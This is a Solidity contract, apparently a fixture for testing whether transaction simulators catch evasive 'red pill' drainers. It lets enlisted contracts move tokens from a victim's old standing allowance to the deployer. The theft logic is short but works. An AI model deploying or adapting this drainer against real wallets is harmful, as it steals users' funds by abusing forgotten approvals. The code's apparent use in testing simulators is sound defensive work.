// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillAccomplice
/// @notice Red-pill helper: a contract the victim account approved long ago (a dapp it once
///         used) and that no simulated call of a red-pill case ever touches. The environment
///         red pills call it only when they believe they run for real; it then pulls `amount`
///         of `token` from the victim to the attacker through that standing allowance.
/// @dev Detects nothing itself. What it steals (the token it was built for) is outside the
///      simulated execution entirely: neither the token nor this contract appears in the
///      simulation, so only a simulation that runs the red pill's real branch can see it.
contract RedPillAccomplice {
    /// @notice The token the victim approved to this contract.
    IERC20 public immutable token;
    /// @notice The attacker: deployer, recipient of the loot, and who enlists red pills.
    address public immutable boss;
    /// @notice Red pills allowed to call `collect`.
    mapping(address pill => bool) public crew;

    /// @notice A red pill pulled loot from a victim.
    /// @param pill The red pill that asked.
    /// @param victim The account robbed.
    /// @param amount Amount taken.
    event Collected(address indexed pill, address indexed victim, uint256 amount);

    /// @param token_ The token the victim approves to this contract.
    constructor(IERC20 token_) {
        token = token_;
        boss = msg.sender;
    }

    /// @notice Lets `pill` call `collect`. Only the boss.
    /// @param pill A red-pill contract of the boss.
    function enlist(address pill) external {
        require(msg.sender == boss, "not the boss");
        crew[pill] = true;
    }

    /// @notice Moves `amount` of `token` from `victim` to the boss. Only enlisted red pills.
    /// @param victim An account with a standing allowance to this contract.
    /// @param amount Amount to take.
    function collect(address victim, uint256 amount) external {
        require(crew[msg.sender], "not crew");
        require(token.transferFrom(victim, boss, amount), "transfer failed");
        emit Collected(msg.sender, victim, amount);
    }
}
